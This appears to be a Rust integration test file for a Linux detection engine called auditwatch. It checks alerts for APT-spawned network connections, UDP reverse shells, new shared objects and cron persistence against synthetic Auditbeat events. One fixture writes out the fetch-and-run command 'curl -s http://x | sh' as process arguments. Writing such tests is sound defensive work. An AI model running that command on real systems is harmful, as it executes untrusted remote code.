//! The engine end to end: bundled detections on hand-written Auditbeat-shaped events (through
//! the real Defend view), index/view selection, max_signals, new_terms state across a restart,
//! warm-up, threshold, and the alert document.

use auditwatch::detect::alert::Alert;
use auditwatch::detect::engine::{Engine, EngineConfig};
use auditwatch::detect::rule::{load_bundled, load_str, Rule, Status};
use auditwatch::event::Event;
use serde_json::{json, Value as Json};
use std::path::PathBuf;
use std::sync::Arc;

const T0: i64 = 1_764_560_000_000; // 2025-12-01

fn ev(ts: i64, doc: Json) -> Arc<Event> {
    let mut e = Event::from_json(&doc);
    e.timestamp_ms = ts;
    e.arrival = ts as u64;
    e.set("@timestamp", auditwatch::event::format_rfc3339_ms(ts));
    Arc::new(e)
}

fn bundled() -> Vec<Rule> {
    let loaded = load_bundled();
    for l in &loaded {
        assert_eq!(l.status, Status::Ok, "{}: {}", l.file, l.message);
    }
    loaded.into_iter().filter_map(|l| l.rule).collect()
}

fn only(rules: Vec<Rule>, id: &str) -> Vec<Rule> {
    rules.into_iter().filter(|r| r.rule_id == id).collect()
}

fn run(engine: &mut Engine, events: &[Arc<Event>]) -> Vec<Alert> {
    let mut out = Vec::new();
    for e in events {
        engine.on_event(Arc::clone(e), &mut out);
    }
    out
}

fn host() -> Json {
    json!({"id": "host-1", "name": "web1", "hostname": "web1", "os": {"type": "linux", "family": "debian"}})
}

const APT: &str = "eaef8a35-12e0-4ac0-bc14-81c72b6bd27c";
const UDP: &str = "a5eb21b7-13cc-4b94-9fe2-29bb2914e037";
const SO: &str = "aebaa51f-2a91-4f6a-850b-b601db2293f4";
const CRON: &str = "ff10d4d8-fea7-422d-afb1-e5a2702369a9";

/// apt runs `sh -c ...` (Auditbeat `executed`), the shell's child connects out.
fn apt_events(dest: &str, parent: &str) -> Vec<Arc<Event>> {
    vec![
        ev(
            T0,
            json!({"host": host(), "event": {"category": ["process"], "type": ["start"], "action": "executed", "outcome": "success"},
                   "auditd": {"data": {"syscall": "execve"}},
                   "process": {"pid": 200, "name": "sh", "executable": "/usr/bin/sh", "args": ["sh", "-c", "curl -s http://x | sh"],
                               "entity_id": "E-sh", "parent": {"pid": 100, "name": parent, "entity_id": "E-apt"}}}),
        ),
        ev(
            T0 + 2000,
            json!({"host": host(), "event": {"category": ["network"], "type": ["start", "connection"], "action": "connected-to", "outcome": "success"},
                   "auditd": {"data": {"syscall": "connect"}},
                   "destination": {"ip": dest, "port": 443}, "network": {"direction": "egress"},
                   "process": {"pid": 201, "name": "curl", "executable": "/usr/bin/curl", "entity_id": "E-curl",
                               "parent": {"pid": 200, "name": "sh", "entity_id": "E-sh"}}}),
        ),
    ]
}

#[test]
fn apt_backdoor_sequence_fires_on_the_defend_view() {
    let mut engine = Engine::new(only(bundled(), APT), EngineConfig::default()).unwrap();
    let alerts = run(&mut engine, &apt_events("93.184.216.34", "apt"));
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    let a = &alerts[0];
    assert_eq!(a.events.len(), 2);
    // The alert carries the Defend view the rule matched.
    assert_eq!(a.events[0].get_str("event.action"), Some("exec"));
    assert_eq!(
        a.events[1].get_str("event.action"),
        Some("connection_attempted")
    );
    assert_eq!(engine.stats().defend_views, 2);

    // Near misses: a private destination (v4's CIDR exclusions), a parent that is not apt.
    for events in [
        apt_events("10.1.2.3", "apt"),
        apt_events("172.31.5.5", "apt"),
        apt_events("93.184.216.34", "aptitude"),
    ] {
        let mut engine = Engine::new(only(bundled(), APT), EngineConfig::default()).unwrap();
        assert!(run(&mut engine, &events).is_empty());
    }
}

fn udp_events(a1: &str) -> Vec<Arc<Event>> {
    udp_events_of(300, T0, a1)
}

fn udp_events_of(pid: i64, t: i64, a1: &str) -> Vec<Arc<Event>> {
    let proc = json!({"pid": pid, "name": "python3", "executable": "/usr/bin/python3.11", "parent": {"pid": 299}});
    vec![
        ev(
            t,
            json!({"host": host(), "event": {"category": ["process"], "type": ["start"], "action": "executed", "outcome": "success"},
                      "auditd": {"data": {"syscall": "execve"}}, "process": proc}),
        ),
        ev(
            t + 10,
            json!({"host": host(), "event": {"category": ["process"], "type": ["info"], "action": "created-socket"},
                           "auditd": {"data": {"syscall": "socket", "a0": "2", "a1": a1}}, "process": proc}),
        ),
        ev(
            t + 20,
            json!({"host": host(), "event": {"category": ["network"], "type": ["start", "connection"], "action": "connected-to", "outcome": "success"},
                           "auditd": {"data": {"syscall": "connect"}}, "network": {"direction": "egress"},
                           "destination": {"ip": "198.51.100.7", "port": 53}, "process": proc}),
        ),
    ]
}

#[test]
fn udp_reverse_shell_sample_fires_on_the_auditbeat_event() {
    let mut engine = Engine::new(only(bundled(), UDP), EngineConfig::default()).unwrap();
    let alerts = run(&mut engine, &udp_events("2"));
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    assert_eq!(alerts[0].events.len(), 3);
    assert_eq!(
        alerts[0].events[0].get_str("event.action"),
        Some("executed")
    );
    // The rule reads only Auditbeat data: no Defend view is computed for it.
    assert_eq!(engine.stats().defend_views, 0);
    // SOCK_STREAM (TCP) is a near miss.
    let mut engine = Engine::new(only(bundled(), UDP), EngineConfig::default()).unwrap();
    assert!(run(&mut engine, &udp_events("1")).is_empty());
}

/// A flood of python3 processes that each connect (a sample key per pid, each holding its
/// events for the 5-minute window) stays within the held-events budget: the oldest keys go,
/// counted, and a reverse shell after the flood still alerts.
#[test]
fn held_events_stay_within_the_memory_budget() {
    let budget = 256 << 10;
    let config = EngineConfig {
        max_held_bytes: budget,
        ..EngineConfig::default()
    };
    let mut engine = Engine::new(only(bundled(), UDP), config).unwrap();
    let mut out = Vec::new();
    let mut peak = 0;
    for pid in 0..2_000 {
        // exec and connect, no UDP socket: never completes a sample.
        let evs = udp_events_of(10_000 + pid, T0 + pid * 30, "1");
        for e in [&evs[0], &evs[2]] {
            engine.on_event(Arc::clone(e), &mut out);
            let held = engine.stats().held_bytes;
            assert!(held <= budget as u64, "held {held} bytes");
            peak = peak.max(held);
        }
    }
    assert!(out.is_empty(), "{out:?}");
    let s = engine.stats();
    assert!(
        peak > (budget as u64) / 2,
        "the flood held only {peak} bytes"
    );
    assert_eq!(s.held_peak, peak);
    assert!(s.shed_states > 0, "{s:?}");
    assert!(s.eql_dropped >= s.shed_states, "{s:?}");
    // Without the budget the same flood holds several times as much.
    let mut unbounded = Engine::new(only(bundled(), UDP), EngineConfig::default()).unwrap();
    for pid in 0..2_000 {
        let evs = udp_events_of(10_000 + pid, T0 + pid * 30, "1");
        run(&mut unbounded, &[evs[0].clone(), evs[2].clone()]);
    }
    assert!(unbounded.stats().held_bytes > 4 * budget as u64);
    assert_eq!(unbounded.stats().shed_states, 0);
    // The newest state survives: a reverse shell right after the flood is detected.
    let alerts = run(&mut engine, &udp_events_of(99_999, T0 + 2_000 * 30, "2"));
    assert_eq!(alerts.len(), 1, "{alerts:?}");
}

fn so_event(ts: i64, name: &str, path: &str) -> Arc<Event> {
    let dir = path.rsplit_once('/').map_or("/", |(d, _)| d);
    ev(
        ts,
        json!({"host": host(), "event": {"category": ["file"], "type": ["creation"], "action": "opened-file", "outcome": "success"},
               "auditd": {"data": {"syscall": "openat", "a2": "241"}, "paths": {"name": [format!("{dir}/"), path], "nametype": ["PARENT", "CREATE"]}},
               "process": {"pid": 400, "name": name, "executable": format!("/usr/bin/{name}")}, "file": {"path": path}}),
    )
}

#[test]
fn shared_object_new_terms_fires_on_the_first_new_tuple_only() {
    let mut engine = Engine::new(only(bundled(), SO), EngineConfig::default()).unwrap();
    let first = run(&mut engine, &[so_event(T0, "ld", "/usr/lib/libevil.so")]);
    assert_eq!(
        first.len(),
        1,
        "the first tuple alerts with the default (no warm-up)"
    );
    assert_eq!(
        first[0].new_terms,
        Some(vec![
            "host-1".into(),
            "/usr/lib/libevil.so".into(),
            "/usr/bin/ld".into()
        ])
    );
    assert_eq!(first[0].events[0].get_str("event.action"), Some("creation"));
    // The same tuple again: known. Another file: new.
    assert!(run(
        &mut engine,
        &[so_event(T0 + 1000, "ld", "/usr/lib/libevil.so")]
    )
    .is_empty());
    assert_eq!(
        run(&mut engine, &[so_event(T0 + 2000, "ld", "/dev/shm/x.so")]).len(),
        1
    );
    // Near misses: an excluded package manager, a non-.so file, a path outside the list.
    let near = [
        so_event(T0 + 3000, "dpkg", "/usr/lib/liba.so"),
        so_event(T0 + 4000, "ld", "/usr/lib/liba.txt"),
        so_event(T0 + 5000, "ld", "/home/u/liba.so"),
    ];
    assert!(run(&mut engine, &near).is_empty());
}

/// new_terms on the Defend view reads the view's values (here `event.action`, which the view
/// changes) and the alert carries the view's document.
#[test]
fn new_terms_reads_the_defend_view_in_place() {
    let rule = rule_of(
        "nt-def",
        "type = \"new_terms\"\nlanguage = \"kuery\"",
        r#"["logs-endpoint.events.process*"]"#,
        "event.action:exec",
        r#"
[rule.new_terms]
field = "new_terms_fields"
value = ["event.action", "process.name"]

[[rule.new_terms.history_window_start]]
field = "history_window_start"
value = "now-7d"
"#,
    );
    let mut engine = Engine::new(vec![rule], EngineConfig::default()).unwrap();
    let alerts = run(&mut engine, &[exec_event(T0), exec_event(T0 + 1000)]);
    assert_eq!(alerts.len(), 1, "the second sighting of the tuple is known");
    assert_eq!(alerts[0].new_terms, Some(vec!["exec".into(), "id".into()]));
    assert_eq!(alerts[0].events[0].get_str("event.action"), Some("exec"));
    assert_eq!(alerts[0].timestamp_ms, T0);
    assert_eq!(engine.stats().per_rule[0].matches, 2);
}

fn cron_event(exe: &str) -> Arc<Event> {
    let name = exe.rsplit('/').next().unwrap_or(exe);
    ev(
        T0,
        json!({"host": host(), "event": {"category": ["file"], "type": ["change"], "action": "renamed", "outcome": "success"},
               "auditd": {"data": {"syscall": "rename"},
                          "paths": {"name": ["/tmp/", "/etc/cron.d/", "/tmp/job", "/etc/cron.d/job"], "nametype": ["PARENT", "PARENT", "DELETE", "CREATE"]}},
               "process": {"pid": 500, "name": name, "executable": exe}}),
    )
}

#[test]
fn cron_rule_fires_on_rename_into_cron_d() {
    let mut engine = Engine::new(only(bundled(), CRON), EngineConfig::default()).unwrap();
    let alerts = run(&mut engine, &[cron_event("/usr/bin/mv")]);
    assert_eq!(alerts.len(), 1);
    assert_eq!(
        alerts[0].events[0].get_str("file.path"),
        Some("/etc/cron.d/job")
    );
    assert!(
        run(&mut engine, &[cron_event("/usr/bin/dpkg")]).is_empty(),
        "package manager excluded"
    );
}

#[test]
fn all_bundled_rules_together_raise_exactly_their_own_alerts() {
    let mut engine = Engine::new(bundled(), EngineConfig::default()).unwrap();
    let mut events = apt_events("93.184.216.34", "apt");
    events.extend(udp_events("2").into_iter().map(|e| {
        let mut e = (*e).clone();
        e.timestamp_ms += 10_000;
        e.arrival += 10_000;
        Arc::new(e)
    }));
    events.push(so_event(T0 + 20_000, "ld", "/usr/lib/libevil.so"));
    let mut cron = (*cron_event("/usr/bin/mv")).clone();
    cron.timestamp_ms = T0 + 30_000;
    cron.arrival = (T0 + 30_000) as u64;
    events.push(Arc::new(cron));
    let ids: Vec<String> = run(&mut engine, &events)
        .iter()
        .map(|a| a.rule.rule_id.clone())
        .collect();
    assert_eq!(ids, vec![APT, UDP, SO, CRON]);
    let stats = engine.stats();
    assert_eq!((stats.rules, stats.alerts, stats.suppressed), (4, 4, 0));
}

fn kql_rule(id: &str, index: &str, query: &str, extra: &str) -> Rule {
    rule_of(
        id,
        "type = \"query\"\nlanguage = \"kuery\"",
        index,
        query,
        extra,
    )
}

fn eql_rule(id: &str, index: &str, query: &str, extra: &str) -> Rule {
    rule_of(
        id,
        "type = \"eql\"\nlanguage = \"eql\"",
        index,
        query,
        extra,
    )
}

fn rule_of(id: &str, kind: &str, index: &str, query: &str, extra: &str) -> Rule {
    let text = format!(
        "[rule]\nrule_id = \"{id}\"\nname = \"{id}\"\ndescription = \"test\"\nseverity = \"high\"\nrisk_score = 73\n{kind}\nindex = {index}\nfrom = \"now-1m\"\nquery = '''{query}'''\n{extra}"
    );
    let l = load_str(id, &text);
    l.rule.unwrap_or_else(|| panic!("{id}: {}", l.message))
}

fn exec_event(ts: i64) -> Arc<Event> {
    ev(
        ts,
        json!({"host": host(), "event": {"category": ["process"], "type": ["start"], "action": "executed", "outcome": "success"},
                  "auditd": {"data": {"syscall": "execve"}}, "process": {"pid": 7, "name": "id", "executable": "/usr/bin/id", "args": ["id"]}}),
    )
}

#[test]
fn index_patterns_choose_the_view() {
    let rules = vec![
        kql_rule(
            "defend",
            r#"["logs-endpoint.events.*"]"#,
            "event.action:exec",
            "",
        ),
        kql_rule("auditbeat", r#"["auditbeat-*"]"#, "event.action:exec", ""),
        kql_rule(
            "auditbeat-native",
            r#"["auditbeat-*"]"#,
            "event.action:executed",
            "",
        ),
        kql_rule(
            "both",
            r#"["auditbeat-*", "logs-endpoint.events.*"]"#,
            "event.action:(exec or executed)",
            "",
        ),
        kql_rule(
            "file-only",
            r#"["logs-endpoint.events.file*"]"#,
            "event.action:exec",
            "",
        ),
        kql_rule(
            "foreign",
            r#"["logs-crowdstrike.fdr*"]"#,
            "process.name:id",
            "",
        ),
    ];
    let mut engine = Engine::new(rules, EngineConfig::default()).unwrap();
    let mut ids: Vec<String> = run(&mut engine, &[exec_event(T0)])
        .iter()
        .map(|a| a.rule.rule_id.clone())
        .collect();
    ids.sort();
    assert_eq!(ids, vec!["auditbeat-native", "both", "defend"]);
    let stats = engine.stats();
    assert_eq!((stats.rules, stats.inactive_rules), (5, 1));
}

#[test]
fn max_signals_caps_alerts_per_lookback_window() {
    let rule = kql_rule("cap", "[]", "process.name:id", "max_signals = 2\n");
    let mut engine = Engine::new(vec![rule], EngineConfig::default()).unwrap();
    let events: Vec<_> = (0..5).map(|i| exec_event(T0 + i * 1000)).collect();
    assert_eq!(run(&mut engine, &events).len(), 2);
    assert_eq!(engine.stats().suppressed, 3);
    assert_eq!(engine.stats().per_rule[0].suppressed, 3);
    // A minute later a new window opens.
    assert_eq!(run(&mut engine, &[exec_event(T0 + 61_000)]).len(), 1);
}

/// An EQL event rule reading both views: one alert per event (the Auditbeat view's document,
/// tried first, or the Defend view's when only it matches), capped by `max_signals` with the
/// rest counted as suppressed, not raised; a new window raises again.
#[test]
fn max_signals_caps_an_eql_event_rule_on_both_views() {
    const BOTH: &str = r#"["auditbeat-*", "logs-endpoint.events.process*"]"#;
    let rule = eql_rule(
        "both-eql",
        BOTH,
        r#"process where event.action in ("exec", "executed") and process.name == "id""#,
        "max_signals = 2\n",
    );
    let mut engine = Engine::new(vec![rule], EngineConfig::default()).unwrap();
    let events: Vec<_> = (0..5).map(|i| exec_event(T0 + i * 1000)).collect();
    let alerts = run(&mut engine, &events);
    assert_eq!(alerts.len(), 2);
    for (a, e) in alerts.iter().zip(&events) {
        assert_eq!(a.events.len(), 1);
        assert_eq!(a.timestamp_ms, e.timestamp_ms);
        assert_eq!(
            a.events[0].get("event.action").and_then(|v| v.as_str()),
            Some("executed")
        );
    }
    let stats = engine.stats();
    assert_eq!((stats.alerts, stats.suppressed), (2, 3));
    assert_eq!(
        stats.per_rule[0].matches, 5,
        "each event counted once, not per view"
    );
    // A minute on, a new window.
    assert_eq!(run(&mut engine, &[exec_event(T0 + 61_000)]).len(), 1);

    // Only the Defend view matches here: its document is the alert's.
    let rule = eql_rule(
        "def-eql",
        BOTH,
        r#"process where event.action == "exec" and process.name == "id""#,
        "",
    );
    let mut engine = Engine::new(vec![rule], EngineConfig::default()).unwrap();
    let alerts = run(&mut engine, &events[..1]);
    assert_eq!(alerts.len(), 1);
    assert_eq!(
        alerts[0].events[0]
            .get("event.action")
            .and_then(|v| v.as_str()),
        Some("exec")
    );
}

#[test]
fn threshold_alerts_once_per_group_with_its_count() {
    let text = r#"[rule]
rule_id = "th"
name = "many ids"
description = "d"
severity = "low"
risk_score = 21
type = "threshold"
language = "kuery"
index = ["auditbeat-*"]
from = "now-5m"
query = "event.category:process and process.name:id"
[rule.threshold]
field = ["host.id"]
value = 3
"#;
    let rule = load_str("th.toml", text).rule.unwrap();
    let mut engine = Engine::new(vec![rule], EngineConfig::default()).unwrap();
    let events: Vec<_> = (0..7).map(|i| exec_event(T0 + i)).collect();
    let alerts = run(&mut engine, &events);
    assert_eq!(alerts.len(), 2, "events 3 and 6");
    let doc = alerts[0].to_json();
    assert_eq!(doc["threshold_result"]["count"], 3);
    assert_eq!(
        doc["threshold_result"]["terms"][0],
        json!({"field": "host.id", "value": "host-1"})
    );
    assert_eq!(doc["events"].as_array().unwrap().len(), 3);
    assert_eq!(doc["event"]["severity"], 21);
}

fn state_dir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("aw-engine-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    d
}

#[test]
fn new_terms_state_survives_a_restart() {
    let dir = state_dir("restart");
    let config = EngineConfig {
        state_dir: Some(dir.clone()),
        ..EngineConfig::default()
    };
    {
        let mut engine = Engine::new(only(bundled(), SO), config.clone()).unwrap();
        assert_eq!(
            run(&mut engine, &[so_event(T0, "ld", "/usr/lib/libevil.so")]).len(),
            1
        );
        // Seen again a day later: the refreshed sighting is flushed on drop.
        assert!(run(
            &mut engine,
            &[so_event(T0 + 86_400_000, "ld", "/usr/lib/libevil.so")]
        )
        .is_empty());
    }
    let mut engine = Engine::new(only(bundled(), SO), config.clone()).unwrap();
    assert_eq!(engine.stats().new_terms_entries, 1, "history reloaded");
    assert!(
        run(
            &mut engine,
            &[so_event(T0 + 2 * 86_400_000, "ld", "/usr/lib/libevil.so")]
        )
        .is_empty(),
        "no re-alert after restart"
    );
    assert_eq!(
        run(
            &mut engine,
            &[so_event(T0 + 2 * 86_400_000, "ld", "/usr/lib/libother.so")]
        )
        .len(),
        1
    );
    // Ten days after the last sighting (day 2) it has left the history window: new again.
    assert_eq!(
        run(
            &mut engine,
            &[so_event(T0 + 13 * 86_400_000, "ld", "/usr/lib/libevil.so")]
        )
        .len(),
        1
    );
    drop(engine);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn new_terms_warmup_learns_first() {
    let dir = state_dir("warmup");
    let hour = 3_600_000;
    let config = EngineConfig {
        state_dir: Some(dir.clone()),
        new_terms_warmup_ms: hour,
        ..EngineConfig::default()
    };
    {
        let mut engine = Engine::new(only(bundled(), SO), config.clone()).unwrap();
        assert!(run(
            &mut engine,
            &[
                so_event(T0, "ld", "/usr/lib/a.so"),
                so_event(T0 + 10, "ld", "/usr/lib/b.so")
            ]
        )
        .is_empty());
        assert_eq!(engine.stats().new_terms_learned, 2);
    }
    // The warm-up started at the first event and is persisted: a restart does not restart it.
    let mut engine = Engine::new(only(bundled(), SO), config).unwrap();
    assert!(run(
        &mut engine,
        &[so_event(T0 + hour - 1, "ld", "/usr/lib/c.so")]
    )
    .is_empty());
    assert!(
        run(&mut engine, &[so_event(T0 + hour, "ld", "/usr/lib/a.so")]).is_empty(),
        "learned"
    );
    assert_eq!(
        run(&mut engine, &[so_event(T0 + hour, "ld", "/usr/lib/d.so")]).len(),
        1
    );
    drop(engine);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn alert_document_has_the_rule_threat_host_and_events() {
    let mut engine = Engine::new(only(bundled(), APT), EngineConfig::default()).unwrap();
    let alerts = run(&mut engine, &apt_events("93.184.216.34", "apt"));
    let mut line = Vec::new();
    alerts[0].write_json(&mut line);
    let doc: Json = serde_json::from_slice(&line).unwrap();
    assert_eq!(doc["event"]["kind"], "alert");
    assert_eq!(doc["event"]["severity"], 47);
    assert_eq!(doc["event"]["risk_score"], 47);
    assert_eq!(doc["rule"]["id"], APT);
    assert_eq!(
        doc["rule"]["name"],
        "Suspicious APT Package Manager Network Connection"
    );
    assert_eq!(doc["rule"]["type"], "eql");
    assert_eq!(doc["rule"]["severity"], "medium");
    assert_eq!(doc["rule"]["version"], 4);
    assert!(doc["rule"]["description"]
        .as_str()
        .unwrap()
        .starts_with("Detects suspicious network events"));
    assert_eq!(doc["threat"][0]["tactic"]["id"], "TA0003");
    assert_eq!(
        doc["threat"][0]["technique"][1]["subtechnique"][0]["id"],
        "T1546.016"
    );
    assert_eq!(doc["threat"].as_array().unwrap().len(), 3);
    assert!(doc["tags"]
        .as_array()
        .unwrap()
        .contains(&json!("Data Source: Elastic Defend")));
    assert_eq!(doc["host"]["id"], "host-1");
    assert_eq!(doc["host"]["os"]["type"], "linux");
    assert_eq!(doc["events"][0]["process"]["name"], "sh");
    assert_eq!(doc["events"][1]["destination"]["ip"], "93.184.216.34");
    assert_eq!(
        doc["@timestamp"],
        auditwatch::event::format_rfc3339_ms(T0 + 2000)
    );
}

#[test]
fn a_later_rule_with_the_same_id_replaces_the_earlier() {
    let (name, text) = auditwatch::detect::rule::bundled()[3];
    let updated = load_str(
        name,
        &text.replace(
            "name = \"Cron Job Created or Modified\"",
            "name = \"Cron Job (site copy)\"",
        ),
    )
    .rule
    .unwrap();
    let mut rules = bundled();
    rules.push(updated);
    let mut engine = Engine::new(rules, EngineConfig::default()).unwrap();
    let alerts = run(&mut engine, &[cron_event("/usr/bin/mv")]);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].rule.name, "Cron Job (site copy)");
    let stats = engine.stats();
    assert_eq!((stats.rules, stats.replaced_rules), (4, 1));
}

#[test]
fn trailing_missing_event_sequences_complete_on_idle_time() {
    let text = r#"[rule]
rule_id = "miss"
name = "a without b"
description = "d"
severity = "critical"
risk_score = 99
type = "eql"
language = "eql"
index = ["auditbeat-*"]
query = '''
sequence by host.id with maxspan=1m
  [process where process.name == "a"]
  ![process where process.name == "b"]
'''
"#;
    let rule = load_str("miss.toml", text).rule.unwrap();
    let named = |ts: i64, name: &str| {
        ev(
            ts,
            json!({"host": host(), "event": {"category": ["process"]}, "process": {"name": name}}),
        )
    };
    let mut engine = Engine::new(vec![rule.clone()], EngineConfig::default()).unwrap();
    assert!(run(&mut engine, &[named(T0, "a")]).is_empty());
    let mut out = Vec::new();
    engine.on_time(T0 + 30_000, &mut out);
    assert!(out.is_empty(), "the window is still open");
    engine.on_time(T0 + 61_000, &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(
        out[0].events.len(),
        1,
        "the missing stage's placeholder is not an event"
    );
    assert_eq!(out[0].events[0].get_str("process.name"), Some("a"));
    assert_eq!(out[0].to_json()["event"]["severity"], 99);

    let mut engine = Engine::new(vec![rule], EngineConfig::default()).unwrap();
    assert!(run(&mut engine, &[named(T0, "a"), named(T0 + 5_000, "b")]).is_empty());
    engine.on_time(T0 + 61_000, &mut out);
    assert_eq!(out.len(), 1, "b arrived in time: nothing new");
}
